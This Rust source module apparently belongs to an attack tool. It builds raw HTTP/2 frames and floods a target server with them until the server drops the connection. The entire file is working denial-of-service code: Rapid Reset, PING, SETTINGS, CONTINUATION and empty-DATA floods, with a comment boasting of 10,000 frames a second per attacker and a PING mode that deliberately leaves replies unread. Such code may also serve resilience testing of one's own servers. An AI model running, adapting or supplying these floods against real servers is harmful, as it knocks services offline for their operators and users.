//! HTTP/2 floods: frames that are allowed one by one.

use std::io;
use std::time::Duration;

use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _, split};

use super::attack::Wire;
use super::{Attack, Target};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const CANCEL: u32 = 8;

/// Frames of one write.
const BATCH: u32 = 50;
/// Between two writes: with it one attacker sends 10,000 frames a second, if it is let.
const BEAT: Duration = Duration::from_millis(5);

/// Sends on until the server has closed the connection.
pub(super) async fn flood(kind: Attack, wire: Wire, target: &Target) -> io::Result<()> {
    let (reads, mut writes) = split(wire);
    let writing = async {
        let start = [PREFACE, &frame(SETTINGS, 0, 0, &[]), &opening(kind, target)].concat();
        writes.write_all(&start).await?;
        let mut stream = 1;
        loop {
            let streams = (0..BATCH).map(|index| stream + 2 * index);
            let frames: Vec<u8> = streams
                .flat_map(|stream| one(kind, stream, target))
                .collect();
            stream += 2 * BATCH;
            writes.write_all(&frames).await?;
            writes.flush().await?;
            tokio::time::sleep(BEAT).await;
        }
    };
    let reading = async {
        match kind {
            // Answers pile up at the server.
            Attack::Ping => std::future::pending().await,
            _ => drain(reads).await,
        }
    };
    tokio::select! {
        ended = reading => ended,
        failed = writing => failed,
    }
}

/// What some need before their first frame.
fn opening(kind: Attack, target: &Target) -> Vec<u8> {
    match kind {
        Attack::Continuation => frame(HEADERS, END_STREAM, 1, &request(GET, target)),
        Attack::EmptyData => frame(HEADERS, END_HEADERS, 1, &request(POST, target)),
        _ => Vec::new(),
    }
}

fn one(kind: Attack, stream: u32, target: &Target) -> Vec<u8> {
    match kind {
        Attack::RapidReset => {
            let opened = frame(
                HEADERS,
                END_STREAM | END_HEADERS,
                stream,
                &request(GET, target),
            );
            [opened, frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())].concat()
        }
        Attack::Ping => frame(PING, 0, 0, &[7; 8]),
        Attack::Settings => frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]),
        // A literal field without a name that the table would know: x: y.
        Attack::Continuation => frame(CONTINUATION, 0, 1, &[0, 1, b'x', 1, b'y']),
        _ => frame(DATA, 0, 1, &[]),
    }
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .unwrap_or(u32::MAX)
        .to_be_bytes();
    let mut out = length[1..].to_vec();
    out.extend([kind, flags]);
    out.extend(stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// Fields of the static table: `:method: GET`, `:method: POST`.
const GET: u8 = 0x82;
const POST: u8 = 0x83;

/// The header block of a request for `/`: `:scheme: http` and `:path: /` from the static table, the host as a literal.
fn request(method: u8, target: &Target) -> Vec<u8> {
    let host = target.host.as_bytes();
    let length = u8::try_from(host.len()).expect("a host's name is short");
    [&[method, 0x86, 0x84, 0x01, length], host].concat()
}

async fn drain(mut reads: impl AsyncRead + Unpin) -> io::Result<()> {
    let mut bytes = [0; 4096];
    while reads.read(&mut bytes).await? > 0 {}
    Ok(())
}
